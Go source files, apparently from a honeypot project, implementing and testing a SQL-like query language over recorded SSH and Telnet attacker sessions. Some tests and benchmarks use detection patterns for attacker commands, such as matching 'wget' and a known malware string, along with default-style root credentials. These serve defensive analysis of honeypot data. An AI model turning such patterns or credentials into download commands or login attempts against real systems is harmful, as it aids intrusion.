				want = append(want, [3]string{m, r.ClientIP, fmt.Sprint(r.ClientPort)})
			}
		}
	}
	if len(res.Rows) != len(want) {
		t.Fatalf("got %d rows, want %d", len(res.Rows), len(want))
	}
	for i, row := range res.Rows {
		got := [3]string{row[0].String(), row[1].String(), row[2].String()}
		if got != want[i] {
			t.Fatalf("row %d = %v, want %v", i, got, want[i])
		}
	}
}

// TestAggregates exercises sum/avg/min/max/count-distinct through the
// scan path.
func TestAggregates(t *testing.T) {
	s, recs := sealedStore(t, 300, 2)
	res, err := Run(s, `SELECT proto, count(*), count(distinct ip), min(start), max(port) GROUP BY proto ORDER BY proto`)
	if err != nil {
		t.Fatal(err)
	}
	type agg struct {
		n    int64
		ips  map[string]bool
		min  time.Time
		port int64
	}
	want := map[string]*agg{}
	for _, r := range recs {
		a := want[r.Protocol]
		if a == nil {
			a = &agg{ips: map[string]bool{}, min: r.Start}
			want[r.Protocol] = a
		}
		a.n++
		a.ips[r.ClientIP] = true
		if r.Start.Before(a.min) {
			a.min = r.Start
		}
		if int64(r.ClientPort) > a.port {
			a.port = int64(r.ClientPort)
		}
	}
	if len(res.Rows) != len(want) {
		t.Fatalf("got %d rows, want %d", len(res.Rows), len(want))
	}
	for _, row := range res.Rows {
		a := want[row[0].Str]
		if a == nil {
			t.Fatalf("unexpected proto %q", row[0].Str)
		}
		if row[1].Int != a.n || row[2].Int != int64(len(a.ips)) ||
			!row[3].Time.Equal(a.min) || row[4].Int != a.port {
			t.Fatalf("proto %s: got (%d,%d,%v,%d), want (%d,%d,%v,%d)",
				row[0].Str, row[1].Int, row[2].Int, row[3].Time, row[4].Int,
				a.n, int64(len(a.ips)), a.min, a.port)
		}
	}
}

// TestOrderByAndLimit checks ORDER BY on aggregate columns and LIMIT.
func TestOrderByAndLimit(t *testing.T) {
	s, _ := sealedStore(t, 400, 3)
	res, err := Run(s, `SELECT month, count(*) GROUP BY month ORDER BY count(*) DESC, month LIMIT 2`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("LIMIT 2 returned %d rows", len(res.Rows))
	}
	if res.Rows[0][1].Int < res.Rows[1][1].Int {
		t.Fatalf("not sorted desc: %v", res.Rows)
	}
}

// TestRowOrderByPushdown: a row-mode ORDER BY/LIMIT lowers onto the
// store as a bounded top-k heap below the scan, EXPLAIN says so, and
// the rows come back in key order with store-order ties.
func TestRowOrderByPushdown(t *testing.T) {
	s, recs := sealedStore(t, 400, 3)
	res, err := Run(s, `EXPLAIN SELECT ip, port WHERE proto = 'ssh' ORDER BY port DESC LIMIT 5`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 5 {
		t.Fatalf("got %d rows, want 5", len(res.Rows))
	}
	// Ground truth: the 5 highest SSH ports (ports are unique here).
	var ports []int64
	for _, r := range recs {
		if r.Protocol == session.ProtoSSH {
			ports = append(ports, int64(r.ClientPort))
		}
	}
	sort.Slice(ports, func(i, j int) bool { return ports[i] > ports[j] })
	for i, row := range res.Rows {
		if row[1].Int != ports[i] {
			t.Fatalf("row %d: port %d, want %d", i, row[1].Int, ports[i])
		}
	}
	if res.Stats.TopK != 5 {
		t.Fatalf("stats.TopK = %d, want 5", res.Stats.TopK)
	}
	text := strings.Join(res.Explain, "\n")
	if !strings.Contains(text, "top-5 heap") {
		t.Fatalf("EXPLAIN missing the pushed-down sort:\n%s", text)
	}

	// ORDER BY on a field that is not selected works too: the store's
	// decode mask widens to cover the sort key.
	res, err = Run(s, `SELECT ip ORDER BY start DESC LIMIT 3`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 3 {
		t.Fatalf("got %d rows, want 3", len(res.Rows))
	}
	// SELECT * with ORDER BY streams full records in key order.
	res, err = Run(s, `SELECT * ORDER BY start LIMIT 4`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Records) != 4 {
		t.Fatalf("got %d records, want 4", len(res.Records))
	}
	for i := 1; i < len(res.Records); i++ {
		if res.Records[i].Start.Before(res.Records[i-1].Start) {
			t.Fatalf("records not in start order")
		}
	}
}

// TestRowLimit checks LIMIT pushes into the streaming cursor.
func TestRowLimit(t *testing.T) {
	s, _ := sealedStore(t, 200, 2)
	res, err := Run(s, `SELECT * WHERE proto = 'ssh' LIMIT 5`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Records) != 5 {
		t.Fatalf("got %d records, want 5", len(res.Records))
	}
}

// TestHybridFallback: a predicate metadata can only bound (start >= a
// mid-segment instant) must still produce exact results.
func TestHybridFallback(t *testing.T) {
	s, recs := sealedStore(t, 400, 2)
	cut := recs[123].Start
	q := fmt.Sprintf(`SELECT kind, count(*) WHERE start >= '%s' GROUP BY kind`, cut.Format(time.RFC3339))
	res, err := Run(s, q)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int64{}
	for _, r := range recs {
		if !r.Start.Before(cut) {
			want[r.Kind().String()]++
		}
	}
	got := map[string]int64{}
	for _, row := range res.Rows {
		got[row[0].String()] = row[1].Int
	}
	if len(got) != len(want) {
		t.Fatalf("groups = %v, want %v", got, want)
	}
	for k, n := range want {
		if got[k] != n {
			t.Errorf("kind %s: %d, want %d", k, got[k], n)
		}
	}
}

// TestUnsealedTail: queries must see WAL-only records.
func TestUnsealedTail(t *testing.T) {
	s, err := store.Open(t.TempDir(), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for i := 0; i < 50; i++ {
		if err := s.Append(mkRecord(0, i)); err != nil {
			t.Fatal(err)
		}
	}
	res, err := Run(s, `SELECT count(*) GROUP BY month`)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][0].Int != 50 {
		t.Fatalf("tail aggregate = %v, want one group of 50", res.Rows)
	}
}

// TestParseErrors checks representative failures carry positions.
func TestParseErrors(t *testing.T) {
	cases := []string{
		``,
		`SELECT`,
		`SELECT month GROUP BY month`,
		`SELECT nosuch`,
		`SELECT count(*) WHERE proto =`,
		`SELECT count(*) WHERE proto = 'ssh`,
		`SELECT count(*) WHERE cmd ~ /unterminated`,
		`SELECT count(*) WHERE cmd ~ /bad(/`,
		`SELECT count(*) WHERE port = 'abc'`,
		`SELECT count(*) WHERE kind = 'nosuchkind'`,
		`SELECT count(*) WHERE month = '13-2021'`,
		`SELECT month, count(*) GROUP BY day`,
		`SELECT * ORDER BY user`,
		`SELECT * ORDER BY month, ip`,
		`SELECT * ORDER BY 2`,
		`SELECT ip ORDER BY count(*)`,
		`SELECT count(*) ORDER BY nosuch`,
		`SELECT sum(ip) `,
		`SELECT count(*) WHERE user < 'a'`,
		`SELECT count(*) trailing`,
		`SELECT count(*) WHERE duration ~ /x/`,
	}
	for _, src := range cases {
		_, err := Compile(src)
		if err == nil {
			t.Errorf("%q: expected error", src)
			continue
		}
		var se *SyntaxError
		if !errors.As(err, &se) {
			t.Errorf("%q: error %v is not a SyntaxError", src, err)
			continue
		}
		if se.Pos < 0 || se.Pos > len(src) {
			t.Errorf("%q: position %d out of range", src, se.Pos)
		}
	}
}

// TestCompileFilter checks the -where entry point.
func TestCompileFilter(t *testing.T) {
	f, err := CompileFilter(`proto = 'ssh' AND (user = 'root' OR NOT state_changed = true)`)
	if err != nil {
		t.Fatal(err)
	}
	r := mkRecord(0, 3) // ssh, root login, state changed
	if !f(r) {
		t.Fatal("filter rejected matching record")
	}
	r2 := mkRecord(0, 7) // telnet
	if f(r2) {
		t.Fatal("filter accepted telnet record")
	}
	if _, err := CompileFilter(`nosuch = 1`); err == nil {
		t.Fatal("expected error for unknown field")
	}
}

// TestFleetQuery checks scatter-gather aggregation merges shards.
func TestFleetQuery(t *testing.T) {
	dir := t.TempDir()
	if err := store.WriteFleetMarker(dir); err != nil {
		t.Fatal(err)
	}
	var all []*session.Record
	for n := 0; n < 3; n++ {
		s, err := store.Open(store.ShardDir(dir, fmt.Sprintf("n%d", n)), store.Options{BlockBytes: 2048})
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 150; i++ {
			r := mkRecord((n+i)%2, i*3+n)
			if err := s.Append(r); err != nil {
				t.Fatal(err)
			}
			all = append(all, r)
		}
		if err := s.Seal(); err != nil {
			t.Fatal(err)
		}
		s.Close()
	}
	fl, err := store.OpenFleet(dir, store.Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer fl.Close()

	res, err := Run(fl, `SELECT month, count(*) WHERE proto = 'ssh' GROUP BY month ORDER BY month`)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int64{}
	for _, r := range all {
		if r.Protocol == session.ProtoSSH {
			want[r.Month().Format("2006-01")]++
		}
	}
	if len(res.Rows) != len(want) {
		t.Fatalf("got %d groups, want %d", len(res.Rows), len(want))
	}
	for _, row := range res.Rows {
		if row[1].Int != want[row[0].String()] {
			t.Errorf("month %s: %d, want %d", row[0].String(), row[1].Int, want[row[0].String()])
		}
	}
	if res.Stats.Mode != "metadata" || res.Stats.BlocksRead != 0 {
		t.Fatalf("fleet aggregate should be metadata-only, got %+v", res.Stats)
	}
}
