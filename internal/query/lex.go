// Package query is the hnquery DSL: a small SQL-ish language over the
// session store, compiled to structured store.Query plans that push
// predicates into segment time bounds, Bloom filters, and sealed
// metadata. The surface is one statement shape:
//
//	[EXPLAIN] SELECT <*|items> [WHERE expr] [GROUP BY fields]
//	          [ORDER BY cols [DESC]] [LIMIT n]
//
// e.g.
//
//	SELECT month, count(*) WHERE proto = 'ssh' AND cmd ~ /mdrfckr/
//	GROUP BY month ORDER BY month
package query

import (
	"fmt"
	"strings"
)

// SyntaxError is a positioned parse or compile error: Pos is the byte
// offset into the query text.
type SyntaxError struct {
	Pos int
	Msg string
}

func (e *SyntaxError) Error() string {
	return fmt.Sprintf("query:%d: %s", e.Pos, e.Msg)
}

func errAt(pos int, format string, args ...any) error {
	return &SyntaxError{Pos: pos, Msg: fmt.Sprintf(format, args...)}
}

type tokKind int

const (
	tokEOF tokKind = iota
	tokIdent
	tokString // quoted literal, unescaped
	tokNumber // raw digits, possibly with duration suffix: 42, 1.5, 90s, 1h30m
	tokRegex  // /pattern/, unescaped
	tokOp     // = == != <> < <= > >= ~ !~
	tokLParen
	tokRParen
	tokComma
	tokStar
)

type token struct {
	kind tokKind
	pos  int
	text string
}

// lexer tokenizes one query. A '/' opens a regex literal only directly
// after a match operator, so division-free grammar stays unambiguous.
type lexer struct {
	src       string
	pos       int
	afterTilt bool // previous token was ~ or !~
}

func (l *lexer) next() (token, error) {
	for l.pos < len(l.src) && isSpace(l.src[l.pos]) {
		l.pos++
	}
	if l.pos >= len(l.src) {
		return token{kind: tokEOF, pos: l.pos}, nil
	}
	start := l.pos
	c := l.src[l.pos]
	afterTilt := l.afterTilt
	l.afterTilt = false
	switch {
	case c == '(':
		l.pos++
		return token{tokLParen, start, "("}, nil
	case c == ')':
		l.pos++
		return token{tokRParen, start, ")"}, nil
	case c == ',':
		l.pos++
		return token{tokComma, start, ","}, nil
	case c == '*':
		l.pos++
		return token{tokStar, start, "*"}, nil
	case c == '\'' || c == '"':
		return l.lexString(c)
	case c == '/' && afterTilt:
		return l.lexRegex()
	case c == '=':
		l.pos++
		if l.pos < len(l.src) && l.src[l.pos] == '=' {
			l.pos++
		}
		return token{tokOp, start, "="}, nil
	case c == '!':
		l.pos++
		if l.pos < len(l.src) {
			switch l.src[l.pos] {
			case '=':
				l.pos++
				return token{tokOp, start, "!="}, nil
			case '~':
				l.pos++
				l.afterTilt = true
				return token{tokOp, start, "!~"}, nil
			}
		}
		return token{}, errAt(start, "expected != or !~")
	case c == '<':
		l.pos++
		if l.pos < len(l.src) {
			switch l.src[l.pos] {
			case '=':
				l.pos++
				return token{tokOp, start, "<="}, nil
			case '>':
				l.pos++
				return token{tokOp, start, "!="}, nil
			}
		}
		return token{tokOp, start, "<"}, nil
	case c == '>':
		l.pos++
		if l.pos < len(l.src) && l.src[l.pos] == '=' {
			l.pos++
			return token{tokOp, start, ">="}, nil
		}
		return token{tokOp, start, ">"}, nil
	case c == '~':
		l.pos++
		l.afterTilt = true
		return token{tokOp, start, "~"}, nil
	case c >= '0' && c <= '9':
		return l.lexNumber()
	case isIdentStart(c):
		for l.pos < len(l.src) && isIdentPart(l.src[l.pos]) {
			l.pos++
		}
		return token{tokIdent, start, l.src[start:l.pos]}, nil
	}
	return token{}, errAt(start, "unexpected character %q", c)
}

func (l *lexer) lexString(quote byte) (token, error) {
	start := l.pos
	l.pos++
	var b strings.Builder
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch c {
		case quote:
			l.pos++
			return token{tokString, start, b.String()}, nil
		case '\\':
			if l.pos+1 >= len(l.src) {
				return token{}, errAt(start, "unterminated string")
			}
			l.pos++
			switch e := l.src[l.pos]; e {
			case 'n':
				b.WriteByte('\n')
			case 't':
				b.WriteByte('\t')
			default:
				b.WriteByte(e)
			}
			l.pos++
		default:
			b.WriteByte(c)
			l.pos++
		}
	}
	return token{}, errAt(start, "unterminated string")
}

func (l *lexer) lexRegex() (token, error) {
	start := l.pos
	l.pos++
	var b strings.Builder
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch c {
		case '/':
			l.pos++
			return token{tokRegex, start, b.String()}, nil
		case '\\':
			if l.pos+1 < len(l.src) && l.src[l.pos+1] == '/' {
				b.WriteByte('/')
				l.pos += 2
				continue
			}
			b.WriteByte('\\')
			l.pos++
		default:
			b.WriteByte(c)
			l.pos++
		}
	}
	return token{}, errAt(start, "unterminated regex")
}

// lexNumber scans digits plus anything a duration literal may contain
// (1.5, 90s, 1h30m, 1.5h); the compiler decides how to parse the text.
func (l *lexer) lexNumber() (token, error) {
	start := l.pos
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if (c >= '0' && c <= '9') || c == '.' ||
			(c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') {
			l.pos++
			continue
		}
		if c == 0xC2 && l.pos+1 < len(l.src) && l.src[l.pos+1] == 0xB5 { // µ
			l.pos += 2
			continue
		}
		break
	}
	return token{tokNumber, start, l.src[start:l.pos]}, nil
}

func isSpace(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r'
}

func isIdentStart(c byte) bool {
	return c == '_' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
}

func isIdentPart(c byte) bool {
	return isIdentStart(c) || (c >= '0' && c <= '9') || c == '-'
}
