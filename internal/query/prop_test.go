package query

import (
	"errors"
	"fmt"
	"math/rand"
	"strings"
	"testing"
	"unicode/utf8"

	"honeynet/internal/session"
	"honeynet/internal/store"
)

// atom pairs one DSL predicate with the hand-rolled Filter a caller
// would have written before the Query API existed. The property test
// asserts the two agree record-for-record, byte-for-byte — on every
// composition, over a single store and over a fleet directory.
type atom struct {
	dsl string
	fn  store.Filter
}

func atoms() []atom {
	return []atom{
		{`proto = 'ssh'`, func(r *session.Record) bool { return r.Protocol == session.ProtoSSH }},
		{`proto != 'telnet'`, func(r *session.Record) bool { return r.Protocol != session.ProtoTelnet }},
		{`kind = scanning`, func(r *session.Record) bool { return r.Kind() == session.Scanning }},
		{`kind = command-execution`, func(r *session.Record) bool { return r.Kind() == session.CommandExec }},
		{`month = '2021-06'`, func(r *session.Record) bool { return r.Month().Format("2006-01") == "2021-06" }},
		{`month >= '2021-06'`, func(r *session.Record) bool { return r.Month().Format("2006-01") >= "2021-06" }},
		{`start < '2021-06-15'`, func(r *session.Record) bool {
			return r.Start.Format("2006-01-02") < "2021-06-15"
		}},
		{`ip = '203.0.1.42'`, func(r *session.Record) bool { return r.ClientIP == "203.0.1.42" }},
		{`ip ~ /\.42$/`, func(r *session.Record) bool { return strings.HasSuffix(r.ClientIP, ".42") }},
		{`user = 'root'`, func(r *session.Record) bool {
			for _, l := range r.Logins {
				if l.Username == "root" {
					return true
				}
			}
			return false
		}},
		{`pass ~ /admin/`, func(r *session.Record) bool {
			for _, l := range r.Logins {
				if strings.Contains(l.Password, "admin") {
					return true
				}
			}
			return false
		}},
		{`cmd ~ /mdrfckr/`, func(r *session.Record) bool { return strings.Contains(r.CommandText(), "mdrfckr") }},
		{`cmd ~ /wget/`, func(r *session.Record) bool { return strings.Contains(r.CommandText(), "wget") }},
		{`login_ok = true`, func(r *session.Record) bool { return r.LoggedIn() }},
		{`state_changed = false`, func(r *session.Record) bool { return !r.StateChanged }},
		{`logins >= 1`, func(r *session.Record) bool { return len(r.Logins) >= 1 }},
		{`port > 40100`, func(r *session.Record) bool { return r.ClientPort > 40100 }},
		{`duration > 45`, func(r *session.Record) bool { return r.End.Sub(r.Start).Seconds() > 45 }},
		{`dls = 0`, func(r *session.Record) bool { return len(r.Downloads) == 0 }},
		{`hp = 'hp-1'`, func(r *session.Record) bool { return r.HoneypotID == "hp-1" }},
	}
}

// genPred builds a random predicate of bounded depth, returning the
// DSL text and the equivalent closure.
func genPred(rng *rand.Rand, depth int) (string, store.Filter) {
	as := atoms()
	if depth == 0 || rng.Intn(3) == 0 {
		a := as[rng.Intn(len(as))]
		return a.dsl, a.fn
	}
	switch rng.Intn(3) {
	case 0: // AND
		ld, lf := genPred(rng, depth-1)
		rd, rf := genPred(rng, depth-1)
		return fmt.Sprintf("(%s AND %s)", ld, rd),
			func(r *session.Record) bool { return lf(r) && rf(r) }
	case 1: // OR
		ld, lf := genPred(rng, depth-1)
		rd, rf := genPred(rng, depth-1)
		return fmt.Sprintf("(%s OR %s)", ld, rd),
			func(r *session.Record) bool { return lf(r) || rf(r) }
	default: // NOT
		d, f := genPred(rng, depth-1)
		return fmt.Sprintf("NOT %s", d),
			func(r *session.Record) bool { return !f(r) }
	}
}

// recordBytes canonically encodes a record stream for byte-level
// comparison.
func recordBytes(t *testing.T, recs []*session.Record) string {
	t.Helper()
	var buf []byte
	for _, r := range recs {
		line, err := session.AppendJSON(nil, r)
		if err != nil {
			t.Fatal(err)
		}
		buf = append(buf, line...)
		buf = append(buf, '\n')
	}
	return string(buf)
}

// dslRecords runs `SELECT * WHERE dsl` through the planner (predicate
// pushdown, Bloom routing, masked decode all active).
func dslRecords(t *testing.T, src Source, dsl string) []*session.Record {
	t.Helper()
	res, err := Run(src, "SELECT * WHERE "+dsl)
	if err != nil {
		t.Fatalf("%s: %v", dsl, err)
	}
	return res.Records
}

// filterRecords runs the same predicate as an opaque legacy Filter
// through the deprecated Scan path — zero pushdown, full decode.
func filterRecords(t *testing.T, cur interface {
	Next() bool
	Record() *session.Record
	Err() error
	Close() error
}) []*session.Record {
	t.Helper()
	defer cur.Close()
	var out []*session.Record
	for cur.Next() {
		out = append(out, cur.Record())
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestDSLEquivalentToFilterProperty is the PR's contract: every
// generated DSL predicate must return the byte-identical record set to
// the hand-rolled Filter it replaces — over a single store and over a
// fleet directory — no matter what the planner pruned or skipped
// decoding.
func TestDSLEquivalentToFilterProperty(t *testing.T) {
	s, _ := sealedStore(t, 600, 3)

	fdir := t.TempDir()
	if err := store.WriteFleetMarker(fdir); err != nil {
		t.Fatal(err)
	}
	for n := 0; n < 3; n++ {
		sh, err := store.Open(store.ShardDir(fdir, fmt.Sprintf("n%d", n)), store.Options{BlockBytes: 2048})
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 150; i++ {
			if err := sh.Append(mkRecord((n+i)%3, i*3+n)); err != nil {
				t.Fatal(err)
			}
		}
		if err := sh.Seal(); err != nil {
			t.Fatal(err)
		}
		sh.Close()
	}
	fl, err := store.OpenFleet(fdir, store.Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer fl.Close()

	rng := rand.New(rand.NewSource(8))
	for i := 0; i < 120; i++ {
		dsl, fn := genPred(rng, 3)

		got := recordBytes(t, dslRecords(t, s, dsl))
		want := recordBytes(t, filterRecords(t, s.Scan(store.TimeRange{}, fn)))
		if got != want {
			t.Fatalf("store: DSL %q diverged from hand-rolled filter\ndsl:    %d bytes\nfilter: %d bytes",
				dsl, len(got), len(want))
		}

		fgot := recordBytes(t, dslRecords(t, fl, dsl))
		fwant := recordBytes(t, filterRecords(t, fl.Scan(store.TimeRange{}, fn)))
		if fgot != fwant {
			t.Fatalf("fleet: DSL %q diverged from hand-rolled filter\ndsl:    %d bytes\nfilter: %d bytes",
				dsl, len(fgot), len(fwant))
		}
	}
}

// FuzzParseQuery asserts the parser's total-function contract: no
// input panics, and every rejection is a *SyntaxError whose position
// lands inside the input.
func FuzzParseQuery(f *testing.F) {
	seeds := []string{
		"",
		"SELECT *",
		"SELECT month, count(*) WHERE proto = 'ssh' AND cmd ~ /mdrfckr/ GROUP BY month ORDER BY month",
		"EXPLAIN SELECT kind, count(*), count(distinct ip) GROUP BY kind ORDER BY count(*) DESC LIMIT 3",
		"SELECT * WHERE NOT (user = 'root' OR pass ~ /^123/) LIMIT 10",
		"SELECT sum(dls), avg(duration) WHERE start >= '2021-06-01T00:00:00Z'",
		"SELECT count(*) WHERE month = '2021-06' AND duration > 1h30m",
		"select COUNT(*) where PORT <> 22",
		"SELECT \x00\xff",
		"SELECT count(*) WHERE cmd ~ /((((/",
		"SELECT count(*) WHERE ip = '\\'",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		st, err := Parse(src)
		if err == nil {
			// Whatever parses must also compile or fail cleanly.
			_, err = compileStmt(st)
		}
		checkPositioned(t, src, err)

		// The bare-expression entry (-where) shares the contract.
		if _, werr := CompileFilter(src); werr != nil {
			checkPositioned(t, src, werr)
		}
	})
}

func checkPositioned(t *testing.T, src string, err error) {
	t.Helper()
	if err == nil {
		return
	}
	var se *SyntaxError
	if !errors.As(err, &se) {
		t.Fatalf("%q: error %v is not a *SyntaxError", src, err)
	}
	if se.Pos < 0 || se.Pos > len(src) {
		t.Fatalf("%q: error position %d outside input (len %d)", src, se.Pos, len(src))
	}
	if se.Msg == "" {
		t.Fatalf("%q: empty error message", src)
	}
	_ = utf8.ValidString(se.Msg)
}
