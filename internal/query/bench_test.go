package query

import (
	"testing"
	"time"

	"honeynet/internal/session"
	"honeynet/internal/store"
)

// benchStore seals n records over m month partitions. mkRecord's
// start offset grows with the global index, so at bench scale it is
// recomputed to stay inside the record's partition month.
func benchStore(b *testing.B, n, m int) *store.Store {
	b.Helper()
	s, err := store.Open(b.TempDir(), store.Options{})
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { s.Close() })
	for i := 0; i < n; i++ {
		r := mkRecord(i%m, i)
		dur := r.End.Sub(r.Start)
		r.Start = time.Date(2021, time.Month(5+i%m), 1, 0, 0, 0, 0, time.UTC).
			Add(time.Duration(i/m) * 97 * time.Second)
		r.End = r.Start.Add(dur)
		if err := s.Append(r); err != nil {
			b.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		b.Fatal(err)
	}
	return s
}

// BenchmarkQueryMetadataOnly measures the zero-block-read path: a
// kind/protocol/month-only aggregate answered entirely from sealed
// segment metadata, independent of the record count behind it.
func BenchmarkQueryMetadataOnly(b *testing.B) {
	const n = 50_000
	s := benchStore(b, n, 12)
	c, err := Compile(`SELECT month, count(*) WHERE proto = 'ssh' GROUP BY month ORDER BY month`)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := c.Execute(s)
		if err != nil {
			b.Fatal(err)
		}
		if st := res.Stats; st.Mode != "metadata" || st.BlocksRead != 0 {
			b.Fatalf("not metadata-only: %+v", st)
		}
		if len(res.Rows) != 12 {
			b.Fatalf("got %d groups", len(res.Rows))
		}
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "queries/s")
}

// BenchmarkQueryPushdown compares the same month-bounded regex count
// executed with pushdown (the month predicate prunes 11 of 12
// partitions and the projection masks the decode) against the
// pre-redesign shape: an opaque Filter closure the planner cannot see
// through, scanning and fully decoding every record. recs/s is
// normalized to the store's total record count — the query logically
// ranges over all of it — so the two sub-benchmarks are comparable.
func BenchmarkQueryPushdown(b *testing.B) {
	const n = 50_000
	s := benchStore(b, n, 12)

	b.Run("pushdown", func(b *testing.B) {
		c, err := Compile(`SELECT count(*) WHERE month = '2021-06' AND cmd ~ /wget/`)
		if err != nil {
			b.Fatal(err)
		}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			res, err := c.Execute(s)
			if err != nil {
				b.Fatal(err)
			}
			if st := res.Stats; st.TimePruned == 0 {
				b.Fatalf("no segments pruned: %+v", st)
			}
		}
		b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "recs/s")
	})

	b.Run("fullscan", func(b *testing.B) {
		q := &store.Query{
			Aggs: []store.AggSpec{{Op: store.AggCount}},
			Filter: func(r *session.Record) bool {
				return r.Month().Format("2006-01") == "2021-06" &&
					len(r.Commands) > 0 && containsWget(r.CommandText())
			},
		}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			res, err := s.RunQuery(q)
			if err != nil {
				b.Fatal(err)
			}
			res.Close()
		}
		b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "recs/s")
	})
}

func containsWget(s string) bool {
	for i := 0; i+4 <= len(s); i++ {
		if s[i:i+4] == "wget" {
			return true
		}
	}
	return false
}
