package query

import (
	"fmt"
	"sort"

	"honeynet/internal/session"
	"honeynet/internal/store"
)

// Source is anything that executes structured queries: *store.Store,
// *store.Fleet, or a test double.
type Source interface {
	RunQuery(*store.Query) (*store.Result, error)
}

// Result is a finished query: tabular output (aggregations and
// projections), full records (SELECT *), and the plan statistics. An
// EXPLAIN statement additionally carries the rendered plan.
type Result struct {
	Columns []string
	Rows    [][]store.Value
	Records []*session.Record // SELECT * only
	Stats   store.PlanStats
	Explain []string // non-nil for EXPLAIN
}

// Run parses, compiles, and executes one statement against src.
func Run(src Source, text string) (*Result, error) {
	c, err := Compile(text)
	if err != nil {
		return nil, err
	}
	return c.Execute(src)
}

// Execute runs a compiled statement.
func (c *Compiled) Execute(src Source) (*Result, error) {
	sres, err := src.RunQuery(c.Query)
	if err != nil {
		return nil, err
	}
	defer sres.Close()

	out := &Result{Columns: c.Columns}
	switch {
	case sres.Aggregated():
		for _, g := range sres.Groups() {
			row := make([]store.Value, len(c.aggCols))
			for i, col := range c.aggCols {
				if col.key {
					row[i] = g.Keys[col.idx]
				} else {
					row[i] = g.Aggs[col.idx]
				}
			}
			out.Rows = append(out.Rows, row)
		}
		c.order(out.Rows)
		if c.hasLim && len(out.Rows) > c.limit {
			out.Rows = out.Rows[:c.limit]
		}

	case c.star:
		for sres.Next() {
			out.Records = append(out.Records, sres.Record())
		}
		if err := sres.Err(); err != nil {
			return nil, err
		}

	default:
		for sres.Next() {
			r := sres.Record()
			row := make([]store.Value, len(c.rowCols))
			for i, f := range c.rowCols {
				row[i] = f.ValueOf(r)
			}
			out.Rows = append(out.Rows, row)
		}
		if err := sres.Err(); err != nil {
			return nil, err
		}
	}

	out.Stats = sres.Stats()
	if c.explain {
		out.Explain = c.explainLines(out)
	}
	return out, nil
}

// order applies ORDER BY keys (stable, so earlier keys dominate and
// the store's group-key order breaks remaining ties).
func (c *Compiled) order(rows [][]store.Value) {
	if len(c.orderBy) == 0 {
		return
	}
	sort.SliceStable(rows, func(i, j int) bool {
		for _, k := range c.orderBy {
			a, b := rows[i][k.col], rows[j][k.col]
			if k.desc {
				a, b = b, a
			}
			switch {
			case a.Less(b):
				return true
			case b.Less(a):
				return false
			}
		}
		return false
	})
}

// explainLines renders the chosen plan and its pruning statistics.
func (c *Compiled) explainLines(res *Result) []string {
	var out []string
	switch {
	case len(c.Query.Aggs) > 0:
		out = append(out, fmt.Sprintf("query: aggregate, %d group field(s), %d aggregate(s)",
			len(c.Query.GroupBy), len(c.Query.Aggs)))
	case c.star:
		out = append(out, "query: full records (SELECT *)")
	default:
		out = append(out, fmt.Sprintf("query: project %d field(s)", len(c.rowCols)))
	}
	out = append(out, res.Stats.Lines()...)
	switch {
	case res.Records != nil:
		out = append(out, fmt.Sprintf("result: %d record(s)", len(res.Records)))
	default:
		out = append(out, fmt.Sprintf("result: %d row(s)", len(res.Rows)))
	}
	return out
}
