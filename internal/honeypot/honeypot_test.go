package honeypot

import (
	"bytes"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"honeynet/internal/obs"
	"honeynet/internal/session"
	"honeynet/internal/sshclient"
)

type sink struct {
	mu   sync.Mutex
	recs []*session.Record
	ch   chan *session.Record
}

func newSink() *sink { return &sink{ch: make(chan *session.Record, 64)} }

func (s *sink) add(r *session.Record) error {
	s.mu.Lock()
	s.recs = append(s.recs, r)
	s.mu.Unlock()
	s.ch <- r
	return nil
}

func (s *sink) wait(t *testing.T) *session.Record {
	t.Helper()
	select {
	case r := <-s.ch:
		return r
	case <-time.After(5 * time.Second):
		t.Fatal("no session record arrived")
		return nil
	}
}

func startNode(t *testing.T) (*Node, string, string, *sink) {
	t.Helper()
	sk := newSink()
	node, err := New(Config{
		ID:       "hp-test",
		PublicIP: "198.18.0.1",
		Sink:     sk.add,
		Timeout:  10 * time.Second,
		Download: func(uri string) ([]byte, error) { return []byte("MALWARE:" + uri), nil },
	})
	if err != nil {
		t.Fatal(err)
	}
	sshAddr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	telnetAddr, err := node.ListenTelnet("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { node.Close() })
	return node, sshAddr, telnetAddr, sk
}

func TestSSHExecSessionRecorded(t *testing.T) {
	_, addr, _, sk := startNode(t)
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
